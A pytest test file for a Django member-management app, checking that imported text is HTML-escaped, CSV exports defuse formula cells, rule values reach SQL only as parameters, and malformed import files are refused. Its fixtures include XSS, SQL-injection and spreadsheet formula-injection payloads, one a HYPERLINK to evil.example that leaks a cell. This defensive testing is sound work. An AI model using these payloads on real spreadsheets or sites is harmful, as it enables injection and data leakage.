"""Hostile input (issue 6, item 3): text full of HTML, script and quote characters comes out of
every page escaped and out of the CSV export defused; the rule parser answers arbitrary JSON
with a rule or its own RuleError and keeps values out of the SQL text; malformed import files
get a clear error, write nothing, and are streamed rather than read into memory.
"""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import UTC, datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.db.models import Q
from django.urls import reverse
from django.utils.html import escape
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from engagement.importing import import_activities
from engagement.models import Activity
from members import jobs
from members.csv_import import MAX_LINE_CHARS, ImportFileError
from members.importing import import_members
from members.models import Member
from segments import rules
from segments.exports import COLUMNS, escape_cell, member_rows, write_members_csv
from segments.models import SegmentMembership
from segments.refresh import refresh_segment
from segments.services import segment_create
from tests.factories import IdentityFactory, MemberFactory

AS_OF = datetime(2025, 6, 1, 12, tzinfo=UTC)

# Hypothesis runs every example inside one test (and one database transaction); each example
# rolls its own writes back, so the function-scoped fixtures are safe to share.
EXAMPLES = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

NASTY = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE x; --",
    "</textarea><svg/onload=alert`1`>",
    "' onmouseover='alert(1)' x='",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "a & b < c > d \" e ' f",
]
# No whitespace: the importer trims cells, and the values must come back exactly.
ALPHABET = "<>&\"'`/=+-@;:()!#{}[]abcXYZ019"


def hostile(max_size: int = 40) -> st.SearchStrategy[str]:
    """Hostile text, ending in letters so the exact string cannot occur in a page by chance."""
    core = st.one_of(st.sampled_from(NASTY), st.text(alphabet=ALPHABET, min_size=1, max_size=30))
    return st.builds(lambda text, tag: f"{text}{tag}", core, st.sampled_from(["Zq", "Qz", "Zz"]))


def assert_escaped(html: str, value: str, where: str) -> None:
    """`value` shows in `html` only escaped (and does show)."""
    if any(char in value for char in "<>\"'"):
        assert value not in html, f"{value!r} unescaped in {where}"
    assert escape(value) in html, f"{escape(value)!r} missing from {where}"


def region(html: str, start: str, end: str) -> str:
    """The part of the page from the first `start` to the next `end`."""
    assert start in html, f"{start!r} not in the page"
    begin = html.index(start)
    return html[begin : html.index(end, begin)]


def csv_bytes(rows: list[list[str]]) -> io.BytesIO:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return io.BytesIO(out.getvalue().encode())


def defused(value: str) -> str:
    """What the export must write for `value` (docs/cli.md "export_members"), spelled out
    independently."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


# --- 1. Hostile text through import, pages, pills and export ---------------------------------

IMPORTED_COLUMNS = ["name", "email", "company_name", "job_title", "city", "bio", "source"]
IMPORTED_COLUMNS += ["external_id"]


@pytest.mark.django_db
@EXAMPLES
@given(
    name=hostile(),
    company=hostile(),
    job_title=hostile(),
    city=hostile(),
    bio=hostile(200),
    segment_name=hostile(),
    description=hostile(),
)
def test_hostile_text_comes_out_escaped_everywhere(
    alice_client, alice, community, name, company, job_title, city, bio, segment_name, description
):
    with transaction.atomic():
        report = import_members(
            community=community,
            file=csv_bytes(
                [
                    IMPORTED_COLUMNS,
                    [name, "h@example.org", company, job_title, city, bio, city, name],
                ]
            ),
        )
        assert (report.created, report.errors) == (1, [])
        member = Member.objects.get(community=community)
        stored = (member.name, member.company_name, member.job_title, member.city, member.bio)
        assert stored == (name, company, job_title, city, bio)

        segment = segment_create(
            community=community,
            name=segment_name,
            kind="smart",
            rule={"all": [{"field": "company_name", "op": "is", "value": company}]},
            description=description,
            pinned=True,
            by=alice,
        )
        refresh_segment(segment.pk, as_of=AS_OF)
        inside = SegmentMembership.objects.filter(segment=segment).values_list("member", flat=True)
        assert list(inside) == [member.pk]

        table = alice_client.get(reverse("members:list", args=[community.slug]))
        assert table.status_code == 200
        html = table.content.decode()
        rows = region(html, "<tbody", "</tbody>")
        for value in (name, company, job_title, city):
            assert_escaped(rows, value, "the members table")
        assert_escaped(region(html, 'class="pills"', "</nav>"), segment_name, "the pills")
        assert_escaped(region(html, 'id="segment-sidebar"', "</section>"), segment_name, "sidebar")
        assert_escaped(html, segment_name, "the members page")

        profile = alice_client.get(reverse("members:detail", args=[community.slug, member.pk]))
        assert profile.status_code == 200
        html = profile.content.decode()
        for value in (name, company, job_title, city, bio):
            assert_escaped(html, value, "the profile")
        assert_escaped(region(html, 'id="identities-heading"', "</section>"), city, "identities")
        assert_escaped(region(html, 'id="member-segments"', "</section>"), segment_name, "pills")

        listing = alice_client.get(reverse("segments:list", args=[community.slug]))
        assert listing.status_code == 200
        html = listing.content.decode()
        assert_escaped(html, segment_name, "the Segments page")
        assert_escaped(html, description, "the Segments page")

        for rows_of in (member_rows(community), member_rows(community, segment=segment)):
            header, row = list(rows_of)
            cells = dict(zip(header, row, strict=False))
            assert cells["name"] == defused(name)
            assert cells["company_name"] == defused(company)
            assert cells["job_title"] == defused(job_title)
            assert cells["city"] == defused(city)
            assert cells["external_ids"] == defused(f"{city}:{name}")
            assert cells["email"] == "h@example.org"
            assert cells["joined_at"] == ""
        transaction.set_rollback(True)


@pytest.mark.django_db
def test_export_defuses_formula_cells_and_leaves_the_others_alone(community):
    texts = {
        "name": "=1+1",
        "company_name": "+cmd|' /C calc'!A0",
        "job_title": "-2+3",
        "location": "@SUM(A1:A9)",
        "city": "\tTab City",
        "country": "\rCR Country",
    }
    odd = MemberFactory(community=community, email="odd@example.org", **texts)
    IdentityFactory(member=odd, source="-slack", external_id="=x")
    plain = MemberFactory(
        community=community,
        name="Ann O'Neil <ann>",
        email="ann@example.org",
        company_name='Acme "Quotes", Inc.',
        job_title="Lead - Design = fun",
        location="Austin, TX",
        city="Austin",
        country="United States",
    )

    header, *rows = list(member_rows(community))

    assert header == list(COLUMNS)
    by_email = {row[1]: dict(zip(header, row, strict=True)) for row in rows}
    assert {key: by_email["odd@example.org"][key] for key in texts} == {
        "name": "'=1+1",
        "company_name": "'+cmd|' /C calc'!A0",
        "job_title": "'-2+3",
        "location": "'@SUM(A1:A9)",
        "city": "'\tTab City",
        "country": "'\rCR Country",
    }
    assert by_email["odd@example.org"]["external_ids"] == "'-slack:=x"
    assert {key: by_email["ann@example.org"][key] for key in texts} == {
        key: getattr(plain, key) for key in texts
    }


# Formulas a spreadsheet may still run although their first code point is not = + - @: written
# with full-width or small compatibility forms, the minus sign, or behind invisible characters.
DISGUISED_FORMULAS = {
    "full-width equals": "\N{FULLWIDTH EQUALS SIGN}1+1",
    "full-width plus": "\N{FULLWIDTH PLUS SIGN}1",
    "full-width minus": "\N{FULLWIDTH HYPHEN-MINUS}1",
    "full-width at": "\N{FULLWIDTH COMMERCIAL AT}SUM(A1)",
    "small equals": "\N{SMALL EQUALS SIGN}1+1",
    "small plus": "\N{SMALL PLUS SIGN}cmd",
    "small minus": "\N{SMALL HYPHEN-MINUS}1",
    "small at": "\N{SMALL COMMERCIAL AT}SUM(A1)",
    "minus sign": "\N{MINUS SIGN}1",
    "zero-width space": "\N{ZERO WIDTH SPACE}=1+1",
    "zero-width non-joiner": "\N{ZERO WIDTH NON-JOINER}=1+1",
    "zero-width joiner": "\N{ZERO WIDTH JOINER}=1+1",
    "word joiner": "\N{WORD JOINER}=1+1",
    "byte-order mark": "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "several invisibles": "\ufeff\u200b\u2060\N{FULLWIDTH EQUALS SIGN}HYPERLINK(1)",
    "invisible then tab": "\N{ZERO WIDTH SPACE}\tx",
    "right-to-left override": "\N{RIGHT-TO-LEFT OVERRIDE}=1+1",
    "equals then combining long solidus": "=\N{COMBINING LONG SOLIDUS OVERLAY}1",  # NFC: "≠1"
}
# Text that only looks odd: left exactly as it is.
HARMLESS = {
    "empty": "",
    "only invisibles": "\N{ZERO WIDTH SPACE}\N{ZERO WIDTH NO-BREAK SPACE}",
    "invisible then a letter": "\N{ZERO WIDTH SPACE}Ann",
    "full-width letter": "\N{FULLWIDTH LATIN CAPITAL LETTER A}cme",
    "minus sign inside": "1\N{MINUS SIGN}2",
    "full-width equals inside": "a\N{FULLWIDTH EQUALS SIGN}b",
    "not-equal sign": "\N{NOT EQUAL TO} x",
}


@pytest.mark.parametrize("value", DISGUISED_FORMULAS.values(), ids=DISGUISED_FORMULAS.keys())
def test_escape_cell_quotes_disguised_formulas_and_keeps_the_cell_as_stored(value):
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS.values(), ids=HARMLESS.keys())
def test_escape_cell_leaves_harmless_look_alikes_alone(value):
    assert escape_cell(value) == value


@pytest.mark.django_db
@pytest.mark.parametrize("value", DISGUISED_FORMULAS.values(), ids=DISGUISED_FORMULAS.keys())
def test_export_defuses_disguised_formulas_in_every_text_column(community, value):
    member = MemberFactory(
        community=community,
        email="odd@example.org",
        **dict.fromkeys(("name", "company_name", "job_title", "city", "country"), value),
    )
    IdentityFactory(member=member, source=value, external_id="1")

    out = io.StringIO()
    write_members_csv(out, community)
    text = out.getvalue()
    assert text.startswith("\ufeffname,")  # the byte-order mark for Excel, then the header
    header, row = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))

    cells = dict(zip(header, row, strict=True))
    expected = "'" + value
    assert [cells[c] for c in ("name", "company_name", "job_title", "city", "country")] == [
        expected
    ] * 5
    assert cells["external_ids"] == f"{expected}:1"
    assert cells["email"] == "odd@example.org"


# --- 2. The rule parser given arbitrary JSON -------------------------------------------------

FIELD_NAMES = [*rules.FIELDS, "attributes.plan", "attributes.", "attributes.123", "attributes.a-b"]
OPERATORS = sorted({op for ops in rules.OPERATORS.values() for op in ops} | {"IS", "", "in "})
KEYS = st.sampled_from(["all", "any", "field", "op", "value", "amount", "unit"]) | st.text(
    max_size=5
)
SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.sampled_from([0, -1, 10**12, 10**12 + 1, 10**30, 2**63]),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=12),
    st.sampled_from(
        [*FIELD_NAMES, *OPERATORS, *NASTY, "2024-02-29", "2023-02-29", "0001-01-01", "9999-12-31"]
    ),
    st.sampled_from(["days", "weeks", "months", "years", " 12 ", "1e3", "1e-7", "NaN", "\x00"]),
)
ANY_JSON = st.recursive(
    SCALARS,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(KEYS, children, max_size=4),
    max_leaves=20,
)
VALUES = st.one_of(
    SCALARS,
    st.lists(SCALARS, max_size=3),
    st.fixed_dictionaries({"amount": SCALARS, "unit": SCALARS}),
    ANY_JSON,
)


@st.composite
def conditions(draw) -> dict:
    condition = {
        "field": draw(st.sampled_from(FIELD_NAMES)),
        "op": draw(st.sampled_from(OPERATORS)),
    }
    if draw(st.booleans()):
        condition["value"] = draw(VALUES)
    if draw(st.integers(0, 9)) == 0:
        condition[draw(KEYS)] = draw(SCALARS)
    return condition


NEAR_VALID = st.recursive(
    conditions(),
    lambda children: st.builds(
        lambda kind, items: {kind: items},
        st.sampled_from(["all", "any"]),
        st.lists(children, max_size=3),
    ),
    max_leaves=12,
)


@settings(max_examples=400, deadline=None)
@given(data=st.one_of(ANY_JSON, NEAR_VALID, NEAR_VALID.map(lambda rule: {"all": [rule]})))
def test_the_rule_parser_returns_a_rule_or_a_rule_error_never_anything_else(data):
    try:
        rule = rules.parse(data)
    except rules.RuleError as error:
        assert str(error)  # names the condition and why
        return
    assert isinstance(rule, rules.Group)
    dumped = rules.dump(rule)
    assert rules.parse(dumped) == rule
    assert rules.parse(json.loads(json.dumps(dumped))) == rule
    assert isinstance(rules.to_q(rule, as_of=AS_OF, tz="Europe/Berlin"), Q)
    assert isinstance(rules.describe(rule), str)


# Values reach SQL only as parameters. LIKE escapes % _ and \, so they are left out here.
SQL_HOSTILE = st.one_of(
    st.sampled_from(NASTY),
    st.text(alphabet="'\";-()=<>*/ abcXYZ019", min_size=1, max_size=30),
).map(lambda text: f"zq{text}qz")
TEXT_FIELDS = [name for name, spec in rules.FIELDS.items() if spec.kind == "text"]


@pytest.mark.django_db
@EXAMPLES
@given(
    value=SQL_HOSTILE,
    field=st.sampled_from([*TEXT_FIELDS, "source"]),
    op=st.sampled_from(["is", "is_not", "contains", "not_contains", "starts_with", "ends_with"]),
)
def test_hostile_rule_values_are_query_parameters_not_sql(value, field, op):
    if field == "source" and op not in ("is", "is_not"):
        op = "is"
    rule = rules.parse({"any": [{"field": field, "op": op, "value": value}]})

    query = Member.objects.filter(rules.to_q(rule, as_of=AS_OF)).query
    sql, params = query.sql_with_params()

    assert value not in sql
    assert any(value in str(param) for param in params), params
    list(Member.objects.filter(rules.to_q(rule, as_of=AS_OF)))  # and the database accepts it


# --- 3. Malformed files ----------------------------------------------------------------------

MEMBERS_HEADER = "name,email,bio"
ACTIVITIES_HEADER = "member_email,kind,occurred_at,title"


def run_members(community, data: bytes | io.IOBase):
    file = io.BytesIO(data) if isinstance(data, bytes) else data
    return import_members(community=community, file=file)


def run_activities(community, data: bytes | io.IOBase):
    file = io.BytesIO(data) if isinstance(data, bytes) else data
    return import_activities(community=community, file=file)


IMPORTERS = {
    "members": (run_members, MEMBERS_HEADER, "Ann,ann@example.org,Hi\n"),
    "activities": (run_activities, ACTIVITIES_HEADER, "ann@example.org,message,2025-01-02,Hi\n"),
}


def latin_1(header: str, row: str) -> bytes:
    return f"{header}\n{row}".replace("Hi", "Jos\xe9").encode("latin-1")


def with_nul(header: str, row: str) -> bytes:
    return f"{header}\n{row}".replace("Hi", "a\x00b").encode()


def duplicate_column(header: str, row: str) -> bytes:
    again = header.split(",")[1].upper()  # EMAIL, KIND
    return f"{header},{again}\n{row.rstrip()},x\n".encode()


NOT_UTF8 = "The file is not UTF-8 text"
# case -> (the file from a header and a row, the error for members, for activities)
MALFORMED: dict[str, tuple[Callable[[str, str], bytes], str, str]] = {
    "latin-1": (latin_1, NOT_UTF8, NOT_UTF8),
    "utf-16 without BOM": (lambda h, r: f"{h}\n{r}".encode("utf-16-le"), NOT_UTF8, NOT_UTF8),
    "NUL in a cell": (with_nul, f"{NOT_UTF8} (a NUL character on line 2)", NOT_UTF8),
    "empty": (lambda h, r: b"", "The file is empty", "The file is empty"),
    "data on the first line": (
        lambda h, r: f"{r}{r}".encode(),
        "The first line must be a header naming the columns",
        "The header (line 1) has unknown columns: ann@example.org, message",
    ),
    "duplicate columns": (
        duplicate_column,
        'The header (line 1) names the column "EMAIL" twice.',
        'The header (line 1) names the column "KIND" twice.',
    ),
}


def malformed(case: str, importer: str) -> tuple[bytes, str]:
    _, header, row = IMPORTERS[importer]
    make, for_members, for_activities = MALFORMED[case]
    return make(header, row), for_members if importer == "members" else for_activities


def written(community) -> tuple[int, int]:
    return (
        Member.objects.for_community(community).count(),
        Activity.objects.for_community(community).count(),
    )


@pytest.fixture
def ann(community):
    return MemberFactory(community=community, name="Ann", email="ann@example.org")


@pytest.mark.django_db
@pytest.mark.parametrize("importer", IMPORTERS)
@pytest.mark.parametrize("case", MALFORMED)
def test_malformed_files_get_a_clear_error_and_write_nothing(community, ann, importer, case):
    run = IMPORTERS[importer][0]
    data, message = malformed(case, importer)

    with pytest.raises(ImportFileError) as error:
        run(community, data)

    assert message in str(error.value)
    assert written(community) == (1, 0)
    assert Member.objects.get().name == "Ann"


def attribute_heavy(header: str, row: str, columns: int = 400_000) -> bytes:
    """The file that once made a 10 MB profile: 400,000 extra columns, each with a value."""
    extra = ",".join(f"a{i}" for i in range(columns))  # 2.7 million characters
    return f"{header},{extra}\n{row.rstrip()}{',x' * columns}\n".encode()


@pytest.mark.django_db
@pytest.mark.parametrize("importer", IMPORTERS)
def test_a_file_of_400000_extra_columns_is_refused_in_a_short_message(community, ann, importer):
    run, header, row = IMPORTERS[importer]

    with pytest.raises(ImportFileError) as error:
        run(community, attribute_heavy(header, row))

    message = str(error.value)
    assert len(message) < 1_000
    if importer == "members":
        assert message.startswith(
            "The header (line 1) has 400,000 columns that would become attributes; a members "
            "file may have at most 100."
        )
    else:
        assert message.startswith(
            "The header (line 1) has unknown columns: a0, a1, a2, a3, a4, a5, a6, a7, a8, a9 "
            "and 399,990 more. Known columns: "
        )
    assert written(community) == (1, 0)
    assert Member.objects.get().attributes == {}


def one_megabyte_cell(header: str, row: str) -> bytes:
    big = "x" * 1_000_000
    good = row.replace("Hi", "fine")
    return f"{header}\n{good}{row.replace('Hi', big)}".encode()


@pytest.mark.django_db
@pytest.mark.parametrize("quoted", [False, True])
@pytest.mark.parametrize("importer", IMPORTERS)
def test_a_one_megabyte_cell_is_refused_naming_its_line_and_column(
    community, ann, importer, quoted
):
    run, header, row = IMPORTERS[importer]
    data = one_megabyte_cell(header, row)
    if quoted:  # a quoted cell spanning lines, with quotes and commas inside
        data = data.replace(b"x" * 1_000_000, b'"a ""b"", c\n' + b"x" * 999_988 + b'"')
    column = {"members": '3 ("bio")', "activities": '4 ("title")'}[importer]

    with pytest.raises(ImportFileError) as error:
        run(community, data)

    assert (
        str(error.value) == f"line 3, column {column}: the cell is longer than 131,072 characters."
    )
    assert written(community) == (1, 0)


class LazyCsv(io.RawIOBase):
    """A CSV file of about `size` bytes made up as it is read: header, rows, then `tail`."""

    def __init__(self, header: str, row: Callable[[int], str], size: int, tail: str) -> None:
        self.size = size
        self.produced = 0
        self._parts = self._generate(header, row, tail)
        self._pending = b""

    def _generate(self, header: str, row: Callable[[int], str], tail: str) -> Iterator[bytes]:
        yield f"{header}\n".encode()
        number = 1
        while self.produced < self.size:
            number += 1
            yield row(number).encode()
        yield tail.encode()

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        while not self._pending:
            part = next(self._parts, None)
            if part is None:
                return 0
            self._pending = part
        count = min(len(buffer), len(self._pending))
        buffer[:count] = self._pending[:count]
        self._pending = self._pending[count:]
        self.produced += count
        return count


def peak_memory(action: Callable[[], object]) -> tuple[object, float]:
    """What `action` returns or raises, and the peak of Python memory it allocated, in MB."""
    tracemalloc.start()
    try:
        try:
            result: object = action()
        except ImportFileError as error:
            result = error
        return result, tracemalloc.get_traced_memory()[1] / 1e6
    finally:
        tracemalloc.stop()


SIZE = 200_000_000
BIO = "b" * 100_000  # each member row is 100 kB: 2,000 rows, written and then rolled back
PAD = " " * 100_000  # cells are trimmed: 2,000 activity rows of one short activity each


@pytest.mark.django_db
def test_a_200_megabyte_members_file_with_a_bad_row_at_the_end_streams_and_writes_nothing(
    community,
):
    file = LazyCsv(
        MEMBERS_HEADER,
        lambda n: f"Member {n},m{n}@example.org,{BIO}\n",
        SIZE,
        "Last,not-an-email,x\n",
    )

    report, peak = peak_memory(lambda: import_members(community=community, file=file))

    assert file.produced >= SIZE  # read to the end
    assert peak < 50, f"peak {peak:.0f} MB"
    assert report.rolled_back
    assert [str(error) for error in report.errors] == [
        f'line {report.rows_read + 1}: email "not-an-email" is not a valid email address'
    ]
    assert report.rows_read > 1_900
    assert written(community) == (0, 0)


@pytest.mark.django_db
def test_a_200_megabyte_activities_file_with_a_bad_row_at_the_end_streams_and_writes_nothing(
    community, ann
):
    file = LazyCsv(
        ACTIVITIES_HEADER,
        lambda n: f"ann@example.org,message,2025-01-02T10:00:00Z,Post {n}{PAD}\n",
        SIZE,
        "ann@example.org,no-such-kind,2025-01-03,Last\n",
    )

    report, peak = peak_memory(lambda: import_activities(community=community, file=file))

    assert file.produced >= SIZE
    assert peak < 50, f"peak {peak:.0f} MB"
    assert report.rolled_back
    assert len(report.errors) == 1
    assert "unknown kind" in str(report.errors[0])
    assert written(community) == (1, 0)


@pytest.mark.django_db
@pytest.mark.parametrize("importer", IMPORTERS)
def test_a_200_megabyte_file_without_line_breaks_is_refused_without_reading_it_whole(
    community, ann, importer
):
    run, header, _ = IMPORTERS[importer]
    file = LazyCsv(header, lambda n: "x" * 1_000_000, SIZE, "\n")

    error, peak = peak_memory(lambda: run(community, file))

    assert isinstance(error, ImportFileError)
    assert str(error) == (
        f"line 2 is longer than {MAX_LINE_CHARS:,} characters: a CSV file has one row per line."
    )
    assert file.produced < 20_000_000  # stopped early
    assert peak < 50, f"peak {peak:.0f} MB"
    assert written(community) == (1, 0)


@pytest.mark.django_db
@pytest.mark.parametrize("importer", IMPORTERS)
@pytest.mark.parametrize(
    "case", [*MALFORMED, "one-megabyte cell", "400,000 columns", "bad row", "markup in a cell"]
)
def test_the_imports_page_shows_the_error_and_writes_nothing(
    alice_client, community, ann, importer, case, celery_calls, django_capture_on_commit_callbacks
):
    """A file the header already condemns is refused by the upload; anything else is found by
    the job's check, whose page says it. Nothing is written either way."""
    _, header, row = IMPORTERS[importer]
    if case in MALFORMED:
        data, message = malformed(case, importer)
        message = escape(message)
        if case == "empty":  # the upload form refuses it before the importer sees it
            message = "The submitted file is empty."
    elif case == "one-megabyte cell":
        data = one_megabyte_cell(header, row)
        message = "line 3, column "
    elif case == "400,000 columns":
        data = attribute_heavy(header, row)
        message = "The header (line 1) has "
    elif case == "bad row":
        data = f"{header}\n{row}{row.replace('ann@', 'ann@@')}".encode()
        message = "1 invalid row: as things stand nothing would be imported"
    else:
        script = "<script>alert(1)</script>"
        data = f"{header}\n{row.replace('ann@', script)}".encode()
        message = escape(script)
    url = reverse("members:imports", args=[community.slug]) + f"?importer={importer}"

    with django_capture_on_commit_callbacks(execute=True):
        response = alice_client.post(url, {"file": SimpleUploadedFile("hostile.csv", data)})
    if response.status_code == 302:  # kept as a job: the worker checks it
        for name, args, _, _ in celery_calls:
            assert name == "members.tasks.run_import_job"
            jobs.job_run(*args)
        response = alice_client.get(response["Location"])

    assert response.status_code == 200
    html = response.content.decode()
    assert message in html
    assert "<script>alert(1)</script>" not in html
    assert written(community) == (1, 0)
